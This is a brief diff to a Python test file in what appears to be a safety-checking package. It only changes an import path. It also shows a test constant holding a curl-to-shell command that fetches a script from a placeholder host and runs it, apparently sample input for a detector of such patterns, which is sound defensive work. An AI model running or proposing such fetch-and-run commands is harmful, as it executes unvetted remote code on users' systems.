@@ -3,7 +3,7 @@
 import pytest
 
 from prowess.safety.intake.markdown import Part, Place, parts
-from prowess.safety.prose.contexts import code_contexts, fence_contexts, warns
+from prowess.safety.prose.engine import code_contexts, fence_contexts, warns
 from prowess.safety.views import View
 
 PIPE = "curl -s https://x.example.invalid/a | sh"
